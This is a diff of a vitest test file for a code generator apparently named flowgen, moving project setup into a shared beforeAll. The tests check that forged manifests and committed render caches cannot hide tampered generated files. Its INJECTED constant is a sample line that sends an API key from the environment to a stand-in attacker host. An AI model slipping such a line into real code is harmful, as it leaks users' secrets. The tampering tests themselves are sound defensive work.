@@ -1,31 +1,37 @@
 import { execFile } from "node:child_process";
 import { createHash } from "node:crypto";
-import { cp, mkdir, readFile, rm, writeFile } from "node:fs/promises";
+import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
 import path from "node:path";
 import { promisify } from "node:util";
-import { describe, expect, it, vi } from "vitest";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { check, generate } from "../src/api/generate.js";
 import { MANIFEST_PATH, type OutputManifest } from "../src/manifest/output-manifest.js";
 import { runCli } from "./helpers/run-cli.js";
-import { REPO_ROOT, tempProject } from "./helpers/temp-dir.js";
+import { REPO_ROOT, tempProject, writeFiles } from "./helpers/temp-dir.js";
 
 const run = promisify(execFile);
 const CACHE_DIR = "node_modules/.cache/flowgen";
 const INJECTED = 'fetch("https://attacker.example/" + process.env.FLOW_API_KEY);\n';
 
-/** The repo's specs, generated with the default render cache: the author's machine. */
-async function authorsProject(): Promise<string> {
-  const dir = await tempProject({ "package.json": { name: "consumer", private: true } });
-  await cp(path.join(REPO_ROOT, "specs"), path.join(dir, "specs"), { recursive: true });
-  const result = await generate({ cwd: dir, config: false });
+/**
+ * The repo's specs, generated with the default render cache: the author's machine. Made once for
+ * the file; tests read it, and work on copies.
+ */
+let author = "";
+beforeAll(async () => {
+  author = await mkdtemp(path.join(tmpdir(), "flowgen-author-"));
+  await writeFiles(author, { "package.json": { name: "consumer", private: true } });
+  await cp(path.join(REPO_ROOT, "specs"), path.join(author, "specs"), { recursive: true });
+  const result = await generate({ cwd: author, config: false });
   if (!result.ok) throw new Error(JSON.stringify(result.issues));
-  return dir;
-}
+});
+afterAll(() => rm(author, { recursive: true, force: true }));
 
 /** What a reviewer's machine or CI checks out: the committed files only (no node_modules, so no render cache). */
-async function freshClone(from: string, extra: readonly string[] = []): Promise<string> {
+async function freshClone(from: string): Promise<string> {
   const dir = await tempProject({});
-  for (const name of ["package.json", "specs", "generated", ...extra])
+  for (const name of ["package.json", "specs", "generated"])
     await cp(path.join(from, name), path.join(dir, name), { recursive: true });
   return dir;
 }
@@ -60,7 +66,6 @@ async function injectWithForgedManifest(dir: string): Promise<void> {
 
 describe("the committed manifest is no evidence of what generated/ holds", () => {
   it("a forged manifest on a fresh clone: --check exits 1 naming the file, and generate repairs it", async () => {
-    const author = await authorsProject();
     const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
     const clone = await freshClone(author);
     await injectWithForgedManifest(clone);
@@ -78,7 +83,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("as a process, in CI: `flowgen generate --check` exits 1 on the forgery", async () => {
-    const clone = await freshClone(await authorsProject());
+    const clone = await freshClone(author);
     await injectWithForgedManifest(clone);
     const bin = path.join(REPO_ROOT, "bin/flowgen.js");
     const failed = await run(process.execPath, [bin, "generate", "--check"], { cwd: clone }).then(
@@ -90,7 +95,6 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("a render cache committed into the project is not taken as this machine's", async () => {
-    const author = await authorsProject();
     const clone = await freshClone(author);
     await injectWithForgedManifest(clone);
     // The forger also commits a cache (git add -f) whose entries hold the injected client, with
@@ -127,7 +131,6 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("this machine's own index over a pack with other bytes in a value's place gives that value no credit", async () => {
-    const author = await authorsProject();
     const clone = await freshClone(author);
     const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
     const { indexText, index, pack } = await readCache(author);
@@ -147,7 +150,6 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("a forged manifest cannot make generate skip the checks of a spec", async () => {
-    const author = await authorsProject();
     const clone = await freshClone(author);
     // A spec edit the checks refuse, recorded in the manifest as if flowgen had checked it.
     const spec = path.join(clone, "specs/@acme/qa.json");
@@ -165,7 +167,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("--trust-manifest is the opt-in fast path: it takes the manifest's word, forgery included", async () => {
-    const clone = await freshClone(await authorsProject());
+    const clone = await freshClone(author);
     await injectWithForgedManifest(clone);
     const trusting = await runCli(clone, "generate", "--check", "--trust-manifest");
     expect(trusting.code).toBe(0);
@@ -181,9 +183,11 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("a cache this machine wrote is reused; with the machine's secret inside the project, none is", async () => {
-    const author = await authorsProject();
+    // The author's machine: the whole project, with the render cache its run left.
+    const own = await tempProject({});
+    await cp(author, own, { recursive: true });
     const stages = async () => {
-      const run = await runCli(author, "generate", "--check", "--verbose");
+      const run = await runCli(own, "generate", "--check", "--verbose");
       expect(run.code).toBe(0);
       return run.stderr
         .match(/^flowgen: (\S+(?: \S+)?) +\d+\.\d{3}s$/gm)
@@ -192,7 +196,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
     // Warm: the whole run is remembered, nothing is checked or rendered.
     expect(await stages()).toEqual(["spec read", "checks", "write"]);
     // A secret a repository could hold (a home folder that is the project) authenticates nothing.
-    vi.stubEnv("XDG_CACHE_HOME", path.join(author, ".cache"));
+    vi.stubEnv("XDG_CACHE_HOME", path.join(own, ".cache"));
     try {
       expect(await stages()).toContain("model");
       expect(await stages()).toContain("model");
